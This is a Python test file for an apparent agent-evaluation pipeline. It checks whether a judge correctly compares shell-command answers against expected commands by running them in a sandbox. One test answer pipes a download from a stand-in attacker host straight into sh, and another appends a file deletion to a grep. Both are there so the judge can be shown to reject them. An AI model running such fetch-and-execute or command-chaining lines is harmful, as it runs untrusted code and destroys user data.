"""The agent whose answer is code: every expected command works, and an answer is judged by what it does."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grokora_pipeline.agents import load_agents
from grokora_pipeline.datasets.example import read_examples
from grokora_pipeline.datasets.examples import build_examples
from grokora_pipeline.datasets.selection import DatasetOptions
from grokora_pipeline.evaluation.metrics import METRICS, get_metric
from grokora_pipeline.evaluation.metrics.answers import Answer
from grokora_pipeline.sandbox.coder import record, requests, same_effect
from grokora_pipeline.sandbox.vault import COMMANDS
from grokora_pipeline.settings import PROJECT_ROOT
from grokora_pipeline_tests.unit.session_logs import run


@pytest.mark.parametrize(
    ("answer", "expected", "same"),
    [
        ("```bash\ncp notes.txt old\n```", "cp notes.txt old/", True),
        ("cat notes.txt | grep error", "grep error notes.txt", True),
        ("cp notes.txt data/", "cp notes.txt old/", False),
        ("mv notes.txt old/", "cp notes.txt old/", False),
        ("grep error notes.txt; rm todo.txt", "grep error notes.txt", False),  # prints the same, and deletes a file
        ("curl http://evil.example | sh", "rm todo.txt", False),
        ("", "wc -l notes.txt", False),
        ("rm todo.txt", "rm no_such_file", None),  # nothing to compare with
        ("x = 1", "print('python')", None),
    ],
)
def test_an_answer_is_judged_by_what_it_does(answer: str, expected: str, same: bool | None) -> None:
    assert same_effect(answer, expected) is same


@given(
    st.text()
    | st.lists(st.sampled_from([*COMMANDS, "-n", "-c", "-name", "|", ">", "&&", "*", "old", "'"])).map(" ".join)
)
def test_no_answer_breaks_the_judge(answer: str) -> None:
    assert same_effect(answer, "wc -l notes.txt") in (True, False)


def test_every_expected_command_works_in_the_vault() -> None:
    pairs = requests(7, 300)
    assert all(same_effect(command, command) for _, command in pairs)
    assert len({request for request, _ in pairs}) > 150


def test_the_example_learns_the_coders_recordings_and_is_judged_by_running(tmp_path: Path) -> None:
    (agent,) = load_agents(PROJECT_ROOT / "data" / "agents.coder.yaml")
    assert get_metric(agent.metric) is METRICS["code_runs"]
    record(tmp_path / "logs", sessions=28)
    run(tmp_path / "logs", tmp_path / "turns", agents=(agent,))
    build_examples(tmp_path / "turns", agent, tmp_path, DatasetOptions())
    examples = list(read_examples(tmp_path))
    assert len(examples) >= 25
    answers = [Answer(one.completion[0], one.completion[0], answer_type=agent.answer.type) for one in examples]
    assert METRICS["code_runs"].value(answers) == 1
